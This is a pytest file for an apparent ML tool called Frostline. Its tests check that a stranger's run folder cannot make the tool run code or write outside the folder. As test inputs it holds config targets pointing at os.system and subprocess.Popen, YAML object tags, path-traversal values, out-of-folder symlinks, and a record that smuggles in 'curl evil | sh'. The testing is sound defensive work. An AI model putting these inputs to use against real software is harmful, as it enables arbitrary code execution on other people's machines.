"""Opening a stranger's run folder: it chooses neither which code runs nor what is written."""

import json
import os
import shlex
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from omegaconf import OmegaConf

from conftest import ASIDE, SMALL, Answer, short_form
from frostline.config.constructors import origin_of
from frostline.errors import RunError
from frostline.paths import conf_dir
from frostline.runs.folder import read_run
from frostline.runs.opening import foreign, read_settings
from frostline.runs.record import Record

QUICK = [*SMALL, *ASIDE, "schedule=head_only"]


@pytest.fixture
def run(small_run: Path, tmp_path: Path) -> Path:
    """A copy, unfinished by its record, so that it can be resumed."""
    folder = tmp_path / "run"
    shutil.copytree(small_run, folder)
    record = json.loads((folder / "run.json").read_text())
    (folder / "run.json").write_text(json.dumps(record | {"status": "interrupted"}))
    return folder


def amend(run: Path, place: str, value: Any) -> None:
    settings = yaml.safe_load((run / "config.yaml").read_text())
    *groups, last = place.split(".")
    node = settings
    for group in groups:
        node = node.setdefault(group, {})
    node[last] = value
    (run / "config.yaml").write_text(yaml.safe_dump(settings))


def commands(run: Path) -> dict[str, list[str]]:
    return {
        "train": ["train", f"resume={run}"],
        "evaluate": ["evaluate", f"run={run}"],
        "predict": ["predict", f"run={run}", f"input={run.parent / 'it.png'}"],
        "export": ["export", f"run={run}", f"output={run.parent / 'it.safetensors'}"],
    }


def evil(module: Path) -> str:
    """A module that says so when it is imported, on the path of this process."""
    (module / "evil_of_a_stranger.py").write_text(f"open({str(module / 'ran')!r}, 'w')\ndef make(**_): ...\n")
    return "evil_of_a_stranger.make"


CODE: dict[str, tuple[str, Any]] = {
    "beside a value": ("trainer.default_root_dir", {"_target_": "torch.hub.load", "source": "local", "model": "evil"}),
    "a loader of pickles": ("trainer.default_root_dir", {"_target_": "torch.load", "weights_only": False, "f": "x"}),
    "a writer": ("trainer.logger_of_mine", {"_target_": "builtins.open", "file": "/tmp/x", "mode": "w"}),
    "a model": ("model._target_", "torch.hub.load"),
    "through a module of ours": ("model._target_", "frostline.backbones.weights.torch.hub.load"),
    "a function of ours": ("data._target_", "frostline.data.sampling.stratified_split"),
    "a class that a module of ours imports": ("head._target_", "frostline.backbones.weights.Path"),
    "a part in the place of another": ("head._target_", "frostline.backbones.bundled.BundledBackbone"),
    "an optimizer": ("optimizer._target_", "os.system"),
    "of a phase": ("schedule.phases.head.optimizer", {"_target_": "subprocess.Popen"}),
    "in a list": ("trainer.plugins", [{"_target_": "torch.hub.load"}]),
    "arguments of Hydra's": ("head._args_", ["x"]),
    "code beside weights": ("model.remote_code", True),
    "a target that is no name": ("task._target_", {"_target_": "os.system"}),
}


@pytest.mark.parametrize("kind", CODE)
@pytest.mark.parametrize("command", short_form(["train", "evaluate", "predict", "export"], "predict"))
def test_code_that_a_run_names_needs_trust(kind: str, command: str, run: Path, program: Callable[..., Answer]) -> None:
    place, value = CODE[kind]
    amend(run, place, value)
    (run.parent / "it.png").write_bytes(b"")
    answer = program(*commands(run)[command])
    assert answer.code == 1
    assert "names code or output folders that are not Frostline's:" in answer.err, answer.err
    assert place.rpartition("._")[0] in answer.err
    assert f"frostline {command} {commands(run)[command][1]}" in answer.err
    assert "trust=true" in answer.err
    assert "Traceback" not in answer.err


def test_what_is_named_is_not_even_imported(
    run: Path, program: Callable[..., Answer], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    target = evil(tmp_path)
    monkeypatch.syspath_prepend(str(tmp_path))
    amend(run, "callbacks.mine", {"_target_": target})
    amend(run, "trainer.default_root_dir", {"_target_": target})
    for command in commands(run).values():
        assert program(*command).code == 1
    assert not (tmp_path / "ran").exists()


def test_trust_runs_it_and_the_proposed_command_is_the_one_that_does(
    run: Path, program: Callable[..., Answer], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.syspath_prepend(str(Path(__file__).parent))
    amend(run, "callbacks.mine", {"_target_": "test_opening.Mine"})
    refused = program("train", f"resume={run}")
    assert refused.code == 1
    assert "callbacks.mine: runs test_opening.Mine" in refused.err
    (proposed,) = [line.partition("next:")[2] for line in refused.err.splitlines() if "next:" in line]
    answer = program(*shlex.split(proposed, comments=True)[1:])
    assert answer.code == 0, answer.err
    record = json.loads((run / "run.json").read_text())
    assert record["status"] == "finished"
    assert record["foreign"] == ["callbacks.mine: runs test_opening.Mine"]


class Mine(__import__("lightning").Callback):  # type: ignore[misc]
    """A user's own."""


def test_callbacks_and_logger_are_not_made_to_score_a_run(run: Path, program: Callable[..., Answer]) -> None:
    ran = run.parent / "ran"
    amend(run, "callbacks.mine", {"_target_": "os.system", "command": f"touch {ran}"})
    amend(run, "logger", {"_target_": "os.system", "command": f"touch {ran}"})
    answer = program("evaluate", f"run={run}")
    assert answer.code == 0, answer.err
    assert not ran.exists()


PLACES = {
    "callbacks.best.dirpath": "/tmp/elsewhere",
    "callbacks.safety.dirpath": "~/elsewhere",
    "callbacks.last.filename": "../../elsewhere",
    "logger.save_dir": "elsewhere",
    "logger.version": "/tmp/elsewhere",
    "trainer.default_root_dir": "/tmp/elsewhere",
    "cache.dir": "/tmp/elsewhere",
}


@pytest.mark.parametrize("place", PLACES)
def test_a_run_that_goes_on_writes_only_into_its_own_folder(
    place: str, run: Path, program: Callable[..., Answer]
) -> None:
    amend(run, place, PLACES[place])
    answer = program("train", f"resume={run}")
    assert answer.code == 1
    assert f"{place}: writes to {PLACES[place]}" in answer.err


@pytest.mark.parametrize(
    ("place", "value"), [*CODE.values(), *PLACES.items(), ("callbacks.mine", {"_target_": "os.x"})]
)
def test_trust_is_proposed_where_opening_the_run_needs_it(place: str, value: Any, run: Path) -> None:
    """To score a run, its callbacks, loggers and cache are left out."""
    own = Record("", 0, foreign=foreign(settings_of(run), run))
    assert own.trusting(trains=True) == own.trusting(trains=False) == []
    amend(run, place, value)
    settings = settings_of(run)
    record = Record("", 0, foreign=foreign(settings, run))
    settings |= {"callbacks": {}, "logger": {}, "cache": settings["cache"] | {"dir": None}}
    assert record.trusting(trains=True) == ["trust=true"]
    assert record.trusting(trains=False) == ["trust=true"] * bool(foreign(settings, run))


def settings_of(run: Path) -> dict[str, Any]:
    found: Any = OmegaConf.to_container(read_run(run)[1])
    return dict(found)


def test_trust_is_proposed_for_a_link_whatever_its_name(run: Path, tmp_path: Path) -> None:
    (run / "logger").symlink_to(tmp_path)
    record = Record("", 0, foreign=foreign({}, run))
    assert record.trusting(trains=False) == ["trust=true"]


def test_a_link_out_of_the_run_is_followed_before_it_is_written(
    run: Path, program: Callable[..., Answer], tmp_path: Path
) -> None:
    (run / "checkpoints").rename(tmp_path / "elsewhere")
    (run / "checkpoints").symlink_to(tmp_path / "elsewhere")
    answer = program("train", f"resume={run}")
    assert answer.code == 1
    assert "callbacks.best.dirpath: writes to" in answer.err


def test_a_run_that_was_moved_opens_where_it_lies(run: Path, program: Callable[..., Answer], tmp_path: Path) -> None:
    run.rename(tmp_path / "moved")
    answer = program("train", "resume=moved")
    assert answer.code == 0, answer.err


OF_SWEEPS = ("launcher", "sweep")  # the config of a run has neither


@pytest.mark.parametrize(
    "file",
    [file for file in sorted(conf_dir().glob("*/*.yaml")) if file.parent.name not in OF_SWEEPS],
    ids=lambda it: f"{it.parent.name}/{it.stem}",
)
def test_no_option_of_ours_needs_trust(file: Path, tmp_path: Path) -> None:
    group = file.parent.name
    settings = yaml.safe_load(file.read_text())
    if group == "experiment" or "@package _global_" in file.read_text():
        group = ""
    settings.pop("defaults", None)
    assert [
        it
        for it in foreign({group: settings} if group else settings, tmp_path)
        if "${" not in it and "downloads" not in it
    ] == []


def test_every_optimizer_of_torch_is_one(tmp_path: Path) -> None:
    import torch

    names = [name for name, it in vars(torch.optim).items() if isinstance(it, type) and name != "Optimizer"]
    assert len(names) > 10
    for name in names:
        assert foreign({"optimizer": {"_target_": f"torch.optim.{name}"}}, tmp_path) == []


def test_a_class_is_known_by_where_it_is_defined() -> None:
    assert origin_of("frostline.backbones.weights.Path") != "frostline.backbones.weights.Path"
    assert origin_of("frostline.backbones.weights.torch.hub.load") is None
    assert origin_of("frostline.training.build.Backbone") == "frostline.backbones.base.Backbone"
    assert origin_of("") is None


# --- the file itself ---

WHOLE = "model: {_target_: a}\ndata: {_target_: a}\ntask: {_target_: a}\nrun_dir: run"
BAD_FILES = {
    "empty": ("", "it is not a mapping of settings"),
    "no groups": ("a: 1", "it lacks the keys data, model, run_dir, task"),
    "a list": ("[1, 2]", "it is not a mapping of settings"),
    "a number": ("42", "it is not a mapping of settings"),
    "text": ("hello", "it is not a mapping of settings"),
    "no yaml": ("a: [1", ""),
    "aliases": ("a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]", "has an alias (*a)"),
    "itself": ("a: &a [*a]", "has an alias (*a)"),
    "deep": ("[" * 3000 + "]" * 3000, "nested more than 40 deep"),
    "deep by blocks": ("\n".join(" " * n + "a:" for n in range(200)), "nested more than 40 deep"),
    "twice": ("a: 1\na: 2", ""),
    "large": ("a: " + "x" * 1_000_001, "more than 1,000,000 bytes"),
    "environment": (f"{WHOLE}\na: ${{oc.env:HOME}}", "a: ${oc.env:HOME}"),
    "environment in a key": (f"{WHOLE}\na:\n  ${{oc.env:HOME}}: 1", "contains an interpolation"),
    "environment in a list": (f"{WHOLE}\na: [{{b: 'x${{oc.env:HOME}}'}}]", "a[0].b"),
    "no text": ("\udcff", ""),
}


@pytest.mark.parametrize("kind", BAD_FILES)
def test_a_config_that_is_no_plain_values_is_refused(kind: str, tmp_path: Path) -> None:
    text, said = BAD_FILES[kind]
    (tmp_path / "config.yaml").write_bytes(text.encode("utf-8", "surrogateescape"))
    with pytest.raises(RunError) as refused:
        read_settings(tmp_path / "config.yaml")
    assert said in refused.value.what
    assert "\n" not in refused.value.what


def test_a_pipe_or_a_missing_file_is_no_config(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "config.yaml")
    for name in ("config.yaml", "missing"):
        with pytest.raises(RunError, match="no such file"):
            read_settings(tmp_path / name)


# --- what a review found ---


@pytest.mark.parametrize(
    "tag",
    ["!!python/object/apply:pathlib.PosixPath [/tmp/elsewhere]", "!!binary aGVsbG8=", "!!python/name:os.system ''"],
)
def test_a_tag_makes_no_object(tag: str, run: Path, program: Callable[..., Answer]) -> None:
    text = (run / "config.yaml").read_text()
    place = next(line for line in text.splitlines() if line.strip().startswith("dirpath: "))
    (run / "config.yaml").write_text(text.replace(place, f"{place.partition(':')[0]}: {tag}", 1))
    answer = program("train", f"resume={run}")
    assert answer.code == 1
    assert "config.yaml contains an object" in answer.err or "configuration cannot be read" in answer.err


@pytest.mark.parametrize("value", ["$HOME/it", "file:///tmp/it", "sftp://host/it"])
def test_a_place_that_its_reader_expands_is_listed(value: str, run: Path, program: Callable[..., Answer]) -> None:
    amend(run, "logger.save_dir", value)
    answer = program("train", f"resume={run}")
    assert answer.code == 1
    assert f"logger.save_dir: writes to {value}" in answer.err


@pytest.mark.parametrize("name", ["tensorboard", "checkpoints", "other", "checkpoints/last.ckpt"])
def test_a_link_out_of_the_run_is_listed_whatever_the_config_says(
    name: str, run: Path, program: Callable[..., Answer], tmp_path: Path
) -> None:
    amend(run, "callbacks", {"best": {"_target_": "frostline.training.callbacks.checkpoints.PlacedCheckpoint"}})
    (tmp_path / "elsewhere").mkdir()
    if (run / name).is_dir():
        shutil.rmtree(run / name)
    (run / name).unlink(missing_ok=True)
    (run / name).symlink_to(tmp_path / "elsewhere")
    answer = program("train", f"resume={run}")
    assert answer.code == 1
    assert f"{name}: leads to {tmp_path / 'elsewhere'}" in answer.err


def test_scoring_a_run_downloads_no_data_to_where_it_says(run: Path, tmp_path: Path) -> None:
    settings = {"data": {"_target_": "frostline.data.pictures.cifar.Cifar", "dir": str(tmp_path / "anywhere")}}
    assert foreign(settings, run) == [f"data.dir: downloads to {tmp_path / 'anywhere'}"]
    (tmp_path / "anywhere").mkdir()
    assert foreign(settings, run) == []


def test_a_cache_of_the_run_is_not_used_to_score_it(run: Path, program: Callable[..., Answer], tmp_path: Path) -> None:
    amend(run, "cache.dir", str(tmp_path / "elsewhere"))
    answer = program("evaluate", f"run={run}")
    assert answer.code == 0, answer.err
    assert not (tmp_path / "elsewhere").exists()


def test_what_a_run_chose_for_itself_is_a_number_when_it_is_taken_up(
    run: Path, program: Callable[..., Answer], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.syspath_prepend(str(tmp_path))
    amend(run, "data.batch_size", [{"_target_": evil(tmp_path)}])
    answer = program("train", *QUICK, "data.batch_size=auto", "requeue=true", f"run_dir={run}")
    assert answer.code == 1
    assert "the run chose a number for data.batch_size" in answer.err
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("target", ["__main__.X", "evil_of_a_stranger.Linear", "torch", "", "...", "a b.C"])
def test_targets_of_any_text_are_refused_in_words(
    target: str, run: Path, program: Callable[..., Answer], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    evil(tmp_path)
    module = tmp_path / "evil_of_a_stranger.py"
    module.write_text(module.read_text() + "from frostline.heads.vector import LinearHead as Linear\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    amend(run, "head._target_", target)
    answer = program("evaluate", f"run={run}")
    assert answer.code == 1
    assert f"head: runs {target}" in answer.err
    assert not (tmp_path / "ran").exists()


def test_a_run_of_before_opens_without_trust(run: Path, program: Callable[..., Answer]) -> None:
    best = {"_target_": "lightning.pytorch.callbacks.ModelCheckpoint", "dirpath": str(run / "checkpoints")}
    before = {"callbacks": {"best": best}}
    assert foreign(before, run) == []
    amend(run, "side", 8)  # a helper of one's own, which commands of today refuse
    settings = yaml.safe_load((run / "config.yaml").read_text())
    del settings["trust"]
    (run / "config.yaml").write_text(yaml.safe_dump(settings))
    answer = program("train", f"resume={run}")
    assert answer.code == 0, answer.err


def test_the_command_of_a_record_is_no_text_to_paste(run: Path, program: Callable[..., Answer]) -> None:
    record = json.loads((run / "run.json").read_text())
    (run / "run.json").write_text(json.dumps(record | {"command": "frostline train; curl evil | sh"}))
    (run / "checkpoints" / "last.ckpt").unlink()
    answer = program("train", f"resume={run}")
    assert answer.code == 1
    assert f"next:  a new run with init_from={run / 'checkpoints' / 'best.ckpt'}" in answer.err
    assert "curl" not in answer.err


# --- what an attack found ---


def test_a_callback_without_a_place_does_not_write_into_the_current_folder(
    run: Path, program: Callable[..., Answer], tmp_path: Path
) -> None:
    settings = yaml.safe_load((run / "config.yaml").read_text())
    del settings["callbacks"]["best"]["dirpath"]
    settings["callbacks"]["last"]["dirpath"] = None
    (run / "config.yaml").write_text(yaml.safe_dump(settings))
    answer = program("train", f"resume={run}")
    assert answer.code == 1
    assert "callbacks.best.dirpath: null writes to the current folder" in answer.err
    assert "callbacks.last.dirpath: null writes to the current folder" in answer.err
    assert not (tmp_path / "checkpoints").exists()


@pytest.mark.parametrize("command", ["evaluate", "predict"])
def test_a_profiler_of_a_run_writes_nothing(command: str, run: Path, program: Callable[..., Answer]) -> None:
    from PIL import Image

    Image.new("RGB", (8, 8)).save(run.parent / "it.png")
    amend(run, "trainer.profiler", "pytorch")
    before = sorted(run.parent.iterdir())
    answer = program(*commands(run)[command])
    assert answer.code == 1
    assert "trainer.profiler: may write to the current folder" in answer.err
    assert sorted(run.parent.iterdir()) == before


def test_a_link_deep_in_a_run_is_listed(run: Path, tmp_path: Path) -> None:
    (run / "a" / "b").mkdir(parents=True)
    (run / "a" / "b" / "c").symlink_to(tmp_path)
    assert foreign({}, run) == [f"a/b/c: leads to {tmp_path}"]


SHAPES: dict[str, Any] = {
    "cache": [1], "trainer": [1], "adapter": {}, "data": {}, "model": None, "head": "linear", "task": 3,
    "callbacks": [1], "schedule": "two_stage", "optimizer": {"lr": 1}, "run_dir": 3,
}  # fmt: skip


@pytest.mark.parametrize("group", SHAPES)
@pytest.mark.parametrize("command", short_form(["train", "predict"], "predict"))
def test_groups_of_another_shape_are_refused_in_words(
    group: str, command: str, run: Path, program: Callable[..., Answer]
) -> None:
    amend(run, group, SHAPES[group])
    (run.parent / "it.png").write_bytes(b"")
    answer = program(*commands(run)[command])
    assert answer.code == 1
    assert answer.err.startswith("frostline: ")
    assert "Traceback" not in answer.err


def test_a_key_that_is_no_text_is_refused(run: Path, program: Callable[..., Answer]) -> None:
    amend(run, "head", {"_target_": "frostline.heads.vector.LinearHead", 1: 2})
    answer = program("evaluate", f"run={run}")
    assert answer.code == 1
    assert "a key is of type int" in answer.err


@pytest.mark.parametrize(
    "field", ["command", "seed", "status", "error", "versions", "foreign", "phases", "best", "mode"]
)
@pytest.mark.parametrize("value", short_form([3.5, [[1]], "text", {"a": 1}], [[1]], {"a": 1}))
def test_a_record_of_other_types_is_refused_in_words(
    field: str, value: Any, run: Path, program: Callable[..., Answer]
) -> None:
    if (field, value) in [("command", "text"), ("error", {"a": 1}), ("versions", {"a": 1}), ("best", {"a": 1})]:
        return
    record = json.loads((run / "run.json").read_text())
    (run / "run.json").write_text(json.dumps(record | {field: value}))
    answer = program("train", f"resume={run}")
    assert answer.code == 1
    assert answer.err.startswith("frostline: run.json cannot be read: ")


def test_a_target_names_no_file(tmp_path: Path) -> None:
    (tmp_path / "re.py").write_text("from frostline.heads.vector import LinearHead\n")
    assert origin_of(f"frostline.{tmp_path}/re.LinearHead") is None
